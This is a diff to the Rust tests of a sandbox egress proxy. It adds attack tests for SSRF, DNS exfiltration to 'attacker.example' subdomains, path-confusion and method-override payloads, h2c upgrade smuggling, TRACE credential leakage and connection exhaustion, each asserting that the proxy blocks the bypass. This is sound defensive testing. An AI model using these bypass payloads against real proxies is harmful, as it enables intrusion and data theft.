@@ -116,7 +116,8 @@ async fn upstream_service(
             });
             Response::new(ChanBody(rx).boxed_unsync())
         }
-        "/ws" if req.headers().contains_key("upgrade") => {
+        p if (p == "/ws" || p.starts_with("/up/")) && req.headers().contains_key("upgrade") => {
+            let protocol = req.headers()["upgrade"].clone();
             let mut req = req;
             let on = hyper::upgrade::on(&mut req);
             tokio::spawn(async move {
@@ -133,7 +134,7 @@ async fn upstream_service(
             Response::builder()
                 .status(StatusCode::SWITCHING_PROTOCOLS)
                 .header("connection", "upgrade")
-                .header("upgrade", "websocket")
+                .header("upgrade", protocol)
                 .body(full(""))
                 .unwrap()
         }
@@ -271,9 +272,46 @@ const NAMES: [&str; 4] = [
     "evilpypi.org",
 ];
 
+/// A resolver that answers `127.0.0.1` for every name under `attacker.example` and counts every
+/// lookup (whatever the name).
+#[derive(Default)]
+struct CountingResolver {
+    lookups: Mutex<Vec<String>>,
+}
+
+impl super::upstream::Resolve for CountingResolver {
+    fn lookup(
+        &self,
+        host: &str,
+        port: u16,
+    ) -> Pin<Box<dyn std::future::Future<Output = std::io::Result<Vec<SocketAddr>>> + Send>> {
+        self.lookups.lock().push(host.to_string());
+        let found = if host.ends_with(".attacker.example") {
+            Ok(vec![SocketAddr::from(([127, 0, 0, 1], port))])
+        } else {
+            Err(std::io::ErrorKind::NotFound.into())
+        };
+        Box::pin(async move { found })
+    }
+}
+
 impl Harness {
     /// An engine with `egress` rules; every test name resolves to the two upstreams.
     async fn new(egress: Value) -> Harness {
+        Harness::with_resolver(egress, Arc::new(super::upstream::SystemResolver)).await
+    }
+
+    /// [`Harness::new`] looking names up through `resolver`.
+    async fn with_resolver(egress: Value, resolver: Arc<dyn super::upstream::Resolve>) -> Harness {
+        Harness::with_options(egress, resolver, super::Limits::default()).await
+    }
+
+    /// [`Harness::with_resolver`] with other connection limits.
+    async fn with_options(
+        egress: Value,
+        resolver: Arc<dyn super::upstream::Resolve>,
+        limits: super::Limits,
+    ) -> Harness {
         let (upstream_ca, tls) = upstream_tls();
         let http = start_upstream(None).await;
         let https = start_upstream(Some(tls)).await;
@@ -290,7 +328,14 @@ impl Harness {
         let ca_pem = ca.cert_pem().to_string();
         let config = Config::from_json(&json!({ "egress": egress, "upstream": upstream })).unwrap();
         let cell = Arc::new(PolicyCell::from_pointee(Compiled::new(config)));
-        let engine = Engine::new("proxy-test".into(), cell.clone(), events, ca);
+        let engine = Engine::with_options(
+            "proxy-test".into(),
+            cell.clone(),
+            events,
+            ca,
+            resolver,
+            limits,
+        );
         let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
         let proxy = listener.local_addr().unwrap();
         engine.serve_sandbox_listener(listener).unwrap();
@@ -513,13 +558,13 @@ async fn allowed_http_and_https_reach_the_upstream_with_events() {
     let (status, _, body) = h.get_https("pypi.org", "/simple/").await;
     assert_eq!((status, body.as_str()), (StatusCode::OK, "ok /simple/"));
     assert_eq!(h.https.hits.for_host("pypi.org"), 1);
-    // The loop guard header reaches the upstream; proxy credentials never do.
-    assert!(h
+    // Proxy credentials never reach the upstream.
+    assert!(!h
         .https
         .hits
         .last()
         .headers
-        .contains_key(super::headers::LOOP_HEADER));
+        .contains_key("proxy-authorization"));
 
     let events = h.drain_events().await;
     let reqs = egress_requests(&events);
@@ -1247,4 +1292,415 @@ async fn shutdown_lets_an_in_flight_stream_finish() {
         .await
         .unwrap()
         .unwrap();
+}
+
+// ---------------------------------------------------------------------------------------------
+// Attacks (each named after the bypass it closes)
+
+/// Sends `head` (a whole request head, `\r\n\r\n` included) on a fresh proxy connection and
+/// returns the status code and the rest of what the proxy sent within a short while.
+async fn raw_exchange(proxy: SocketAddr, head: &str) -> (u16, String) {
+    let mut s = TcpStream::connect(proxy).await.unwrap();
+    s.write_all(head.as_bytes()).await.unwrap();
+    let mut got = Vec::new();
+    let mut buf = [0u8; 4096];
+    while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(300), s.read(&mut buf)).await {
+        if n == 0 {
+            break;
+        }
+        got.extend_from_slice(&buf[..n]);
+    }
+    let text = String::from_utf8_lossy(&got).into_owned();
+    let code = text
+        .split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0);
+    (code, text)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn ssrf_through_the_address_exemption() {
+    let resolver = Arc::new(CountingResolver::default());
+    let h = Harness::with_resolver(
+        json!([
+            { "access": "deny", "host": "127.0.0.0/8", "ports": [22] },
+            { "access": "allow", "host": "*.attacker.example" },
+        ]),
+        resolver.clone(),
+    )
+    .await;
+    let port = h.http.addr.port();
+    // A deny rule naming loopback for port 22 does not open its other ports.
+    let (status, headers, _) = h
+        .get_http(&format!("http://x.attacker.example:{port}/"))
+        .await;
+    assert_eq!(
+        (status, headers[DENIED_HEADER].to_str().unwrap()),
+        (StatusCode::FORBIDDEN, "private-address")
+    );
+    let mut s = TcpStream::connect(h.proxy).await.unwrap();
+    let target = format!("x.attacker.example:{port}");
+    assert_eq!(
+        connect_head(&mut s, &target, None).await,
+        StatusCode::FORBIDDEN
+    );
+    // Neither does an allow rule naming it for another port.
+    h.apply(json!([
+        { "access": "allow", "host": "127.0.0.1", "ports": [9] },
+        { "access": "allow", "host": "*" },
+    ]));
+    let (status, _, _) = h
+        .get_http(&format!("http://x.attacker.example:{port}/"))
+        .await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    // Nor one naming it for another method.
+    h.apply(json!([
+        { "access": "allow", "host": "127.0.0.1", "methods": ["POST"] },
+        { "access": "allow", "host": "*" },
+    ]));
+    let (status, _, _) = h
+        .get_http(&format!("http://x.attacker.example:{port}/"))
+        .await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert_eq!(h.http.hits.count(), 0);
+    // An allow rule that itself allows the request on that port does lift the refusal.
+    h.apply(json!([
+        { "access": "allow", "host": "127.0.0.1", "ports": [port] },
+        { "access": "allow", "host": "*.attacker.example" },
+    ]));
+    let (status, _, _) = h
+        .get_http(&format!("http://x.attacker.example:{port}/"))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(h.http.hits.count(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn dns_exfiltration_through_the_proxy() {
+    let resolver = Arc::new(CountingResolver::default());
+    let h = Harness::with_resolver(
+        json!([{ "access": "allow", "host": "192.0.2.0/24" }]),
+        resolver.clone(),
+    )
+    .await;
+    let (status, headers, _) = h.get_http("http://secret-data.a.attacker.example/").await;
+    assert_eq!(
+        (status, headers[DENIED_HEADER].to_str().unwrap()),
+        (StatusCode::FORBIDDEN, "no-rule")
+    );
+    let mut s = TcpStream::connect(h.proxy).await.unwrap();
+    assert_eq!(
+        connect_head(&mut s, "secret-data2.a.attacker.example:443", None).await,
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(*resolver.lookups.lock(), Vec::<String>::new());
+    // The resolver is the proxy's: a name a host-name rule could allow is looked up through it.
+    h.apply(json!([
+        { "access": "allow", "host": "192.0.2.0/24" },
+        { "access": "allow", "host": "ok.attacker.example" },
+    ]));
+    let _ = h.get_http("http://ok.attacker.example/").await;
+    assert_eq!(*resolver.lookups.lock(), vec!["ok.attacker.example"]);
+    assert_eq!(h.hits(), 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn path_interpretation_allow_with_paths_forwards_no_ambiguous_path() {
+    let h = Harness::new(json!([
+        { "access": "allow", "host": "pypi.org", "methods": ["GET"], "paths": ["/v1/**"] },
+    ]))
+    .await;
+    for path in ["/v1/..;/admin/x", "/v1/..%2fadmin/x", "/v1/..\\admin\\x"] {
+        let (code, text) = raw_exchange(
+            h.proxy,
+            &format!("GET http://pypi.org{path} HTTP/1.1\r\nHost: pypi.org\r\n\r\n"),
+        )
+        .await;
+        assert_eq!(code, 403, "{path}: {text}");
+        assert!(text.contains("path-ambiguous"), "{path}: {text}");
+    }
+    assert_eq!(h.hits(), 0);
+    assert_eq!(
+        h.get_http("http://pypi.org/v1/x;v=1").await.0,
+        StatusCode::OK
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn path_interpretation_deny_matches_every_server_reading() {
+    let h = Harness::new(json!([
+        { "access": "deny", "host": "pypi.org", "paths": ["/admin/**"] },
+        { "access": "allow", "host": "pypi.org" },
+    ]))
+    .await;
+    for path in [
+        "/admin;x/s",
+        "/admin%2fs",
+        "/ADMIN/s",
+        "/admin\\s",
+        "/x/..;/admin/s",
+    ] {
+        let (code, text) = raw_exchange(
+            h.proxy,
+            &format!("GET http://pypi.org{path} HTTP/1.1\r\nHost: pypi.org\r\n\r\n"),
+        )
+        .await;
+        assert_eq!(code, 403, "{path}: {text}");
+    }
+    assert_eq!(h.hits(), 0);
+    assert_eq!(
+        h.get_http("http://pypi.org/administrator").await.0,
+        StatusCode::OK
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn upgrade_smuggling() {
+    let h = Harness::new(json!([
+        { "access": "allow", "host": "pypi.org", "paths": ["/up/**"] },
+    ]))
+    .await;
+    // h2c is taken out of the request: the upstream answers it as plain HTTP/1.1.
+    let (code, text) = raw_exchange(
+        h.proxy,
+        "GET http://pypi.org/up/x HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade, HTTP2-Settings\r\n\
+         Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
+    )
+    .await;
+    assert_eq!(code, 200, "{text}");
+    assert_eq!(h.http.hits.count(), 1);
+    let hit = h.http.hits.last();
+    assert!(!hit.headers.contains_key("upgrade") && !hit.headers.contains_key("http2-settings"));
+    // Any other upgrade than WebSocket under a rule with paths is refused before the upstream.
+    let (code, text) = raw_exchange(
+        h.proxy,
+        "GET http://pypi.org/up/x HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: smuggle\r\n\r\n",
+    )
+    .await;
+    assert_eq!(code, 403, "{text}");
+    assert!(text.contains("upgrade"), "{text}");
+    assert_eq!(h.http.hits.count(), 1);
+    // WebSocket still switches.
+    let (code, text) = raw_exchange(
+        h.proxy,
+        "GET http://pypi.org/up/ws HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
+         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
+    )
+    .await;
+    assert_eq!(code, 101, "{text}");
+    // Without methods or paths, other upgrades are carried (the connection is as open as a tunnel).
+    h.apply(json!([{ "access": "allow", "host": "pypi.org" }]));
+    let (code, text) = raw_exchange(
+        h.proxy,
+        "GET http://pypi.org/up/x HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: other\r\n\r\n",
+    )
+    .await;
+    assert_eq!(code, 101, "{text}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn method_override() {
+    let h = Harness::new(json!([
+        { "access": "allow", "host": "pypi.org", "methods": ["GET"] },
+    ]))
+    .await;
+    let overrides = [
+        ("x-http-method-override", "DELETE", ""),
+        ("x-http-method", "delete", ""),
+        ("x-method-override", "GET, PUT", ""),
+        ("x-any", "x", "?_method=DELETE"),
+        ("x-any", "x", "?a=1&_method=%44ELETE"),
+    ];
+    for (name, value, query) in overrides {
+        let req = Request::get(format!("http://pypi.org/x{query}"))
+            .header(name, value)
+            .body(empty())
+            .unwrap();
+        let mut c = h.http_client().await;
+        let (status, headers, _) = send(&mut c, req).await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{name}: {value} {query}");
+        assert_eq!(headers[DENIED_HEADER], "method-override");
+    }
+    assert_eq!(h.hits(), 0);
+    let req = Request::get("http://pypi.org/x")
+        .header("x-http-method-override", "GET")
+        .body(empty())
+        .unwrap();
+    let mut c = h.http_client().await;
+    assert_eq!(send(&mut c, req).await.0, StatusCode::OK);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn trace_with_a_credential() {
+    let h = Harness::new(json!([
+        { "access": "allow", "host": "api.github.com", "override": { "headers": { "X-Key": "secret-k" } } },
+    ]))
+    .await;
+    for method in ["TRACE", "TRACK"] {
+        let mut c = h.https_client("api.github.com").await;
+        let req = Request::builder()
+            .method(method)
+            .uri("/")
+            .header("host", "api.github.com")
+            .body(empty())
+            .unwrap();
+        let (status, headers, body) = send(&mut c, req).await;
+        assert_eq!(status, StatusCode::FORBIDDEN, "{method}");
+        assert_eq!(headers[DENIED_HEADER], "trace-with-credentials");
+        assert!(!body.contains("secret-k"));
+    }
+    assert_eq!(h.hits(), 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_hive_marker_reaches_upstreams() {
+    let h = Harness::new(json!([{ "access": "allow", "host": "*" }])).await;
+    assert_eq!(h.get_http("http://pypi.org/a").await.0, StatusCode::OK);
+    assert_eq!(h.get_https("pypi.org", "/b").await.0, StatusCode::OK);
+    for hit in h
+        .http
+        .hits
+        .0
+        .lock()
+        .iter()
+        .chain(h.https.hits.0.lock().iter())
+    {
+        for (name, value) in &hit.headers {
+            let text = format!("{name}: {}", String::from_utf8_lossy(value.as_bytes()));
+            assert!(!text.to_ascii_lowercase().contains("hive"), "{text}");
+        }
+    }
+    assert_eq!(h.hits(), 2);
+    // Loops are still caught, by address: another sandbox's host listener in this process.
+    let other = Harness::new(json!([])).await;
+    let other_host = other.engine.open_host_listener().await.unwrap();
+    h.apply(json!([{ "access": "allow", "host": "127.0.0.0/8" }]));
+    let (status, headers, _) = h
+        .get_http(&format!("http://{}/", other_host.local_addr()))
+        .await;
+    assert_eq!(
+        (status, headers[DENIED_HEADER].to_str().unwrap()),
+        (StatusCode::FORBIDDEN, "proxy-loop")
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn connection_budgets_per_listener() {
+    // 1 100 idle connections to the proxy inside the sandbox (more than its whole budget) starve
+    // neither the host-side listener nor another sandbox.
+    let h = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
+    let other = Harness::new(json!([{ "access": "allow", "host": "pypi.org" }])).await;
+    let host = h.engine.open_host_listener().await.unwrap();
+    let mut parked = Vec::new();
+    for _ in 0..1100 {
+        // Past the budget and the listen backlog, connects stall: stop there.
+        match tokio::time::timeout(Duration::from_millis(200), TcpStream::connect(h.proxy)).await {
+            Ok(Ok(s)) => parked.push(s),
+            _ => break,
+        }
+    }
+    assert!(
+        parked.len() > super::Limits::default().listener,
+        "{}",
+        parked.len()
+    );
+    let url: http::Uri = host.url.parse().unwrap();
+    let userinfo = url.authority().unwrap().as_str().split('@').next().unwrap();
+    let auth = format!(
+        "Basic {}",
+        base64::engine::general_purpose::STANDARD.encode(userinfo)
+    );
+    let through_host = async {
+        let stream = TcpStream::connect(host.local_addr()).await.unwrap();
+        let (mut c, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
+            .await
+            .unwrap();
+        tokio::spawn(conn);
+        let req = Request::get("http://pypi.org/via-host")
+            .header("proxy-authorization", auth.as_str())
+            .body(empty())
+            .unwrap();
+        send(&mut c, req).await.0
+    };
+    let status = tokio::time::timeout(Duration::from_secs(5), through_host)
+        .await
+        .expect("the host listener answers while the sandbox's budget is used up");
+    assert_eq!(status, StatusCode::OK);
+    let status = tokio::time::timeout(Duration::from_secs(5), other.get_http("http://pypi.org/x"))
+        .await
+        .expect("another sandbox answers")
+        .0;
+    assert_eq!(status, StatusCode::OK);
+    // The sandbox's own listener serves again once its connections close.
+    drop(parked);
+    let status = tokio::time::timeout(Duration::from_secs(5), h.get_http("http://pypi.org/y"))
+        .await
+        .expect("the proxy serves again")
+        .0;
+    assert_eq!(status, StatusCode::OK);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn idle_connections_of_every_kind_are_closed() {
+    let limits = super::Limits {
+        idle: Duration::from_millis(300),
+        ..super::Limits::default()
+    };
+    let h = Harness::with_options(
+        json!([{ "access": "allow", "host": "*" }]),
+        Arc::new(super::upstream::SystemResolver),
+        limits,
+    )
+    .await;
+    let echo = start_echo().await;
+    let target = format!("pypi.org:{}", echo.port());
+    let mut upstream = h.upstream.clone();
+    upstream["resolve"][target.clone()] = echo.to_string().into();
+    let config = Config::from_json(
+        &json!({ "egress": [{ "access": "allow", "host": "*" }], "upstream": upstream }),
+    )
+    .unwrap();
+    h.cell.store(Arc::new(Compiled::new(config)));
+    /// Whether the proxy closes `s` within 3 s of silence.
+    async fn closed(s: &mut TcpStream) -> bool {
+        let mut buf = [0u8; 64];
+        loop {
+            match tokio::time::timeout(Duration::from_secs(3), s.read(&mut buf)).await {
+                Ok(Ok(0)) | Ok(Err(_)) => return true,
+                Ok(Ok(_)) => continue,
+                Err(_) => return false,
+            }
+        }
+    }
+    // Keep-alive HTTP after one exchange.
+    let mut s = TcpStream::connect(h.proxy).await.unwrap();
+    s.write_all(b"GET http://pypi.org/a HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
+        .await
+        .unwrap();
+    assert!(closed(&mut s).await, "keep-alive HTTP");
+    // A raw tunnel.
+    let mut s = TcpStream::connect(h.proxy).await.unwrap();
+    assert_eq!(connect_head(&mut s, &target, None).await, StatusCode::OK);
+    s.write_all(b"SSH-2.0-test\r\n").await.unwrap();
+    assert!(closed(&mut s).await, "raw tunnel");
+    // An intercepted TLS connection.
+    let mut tls = h
+        .tunnel("pypi.org:443", "pypi.org", &[b"http/1.1"])
+        .await
+        .expect("CONNECT allowed");
+    let mut buf = [0u8; 16];
+    let n = tokio::time::timeout(Duration::from_secs(3), tls.read(&mut buf)).await;
+    assert!(
+        matches!(n, Ok(Ok(0)) | Ok(Err(_))),
+        "intercepted TLS: {n:?}"
+    );
+    // A WebSocket.
+    let mut s = TcpStream::connect(h.proxy).await.unwrap();
+    s.write_all(
+        b"GET http://pypi.org/ws HTTP/1.1\r\nHost: pypi.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
+    )
+    .await
+    .unwrap();
+    assert!(closed(&mut s).await, "WebSocket");
 }
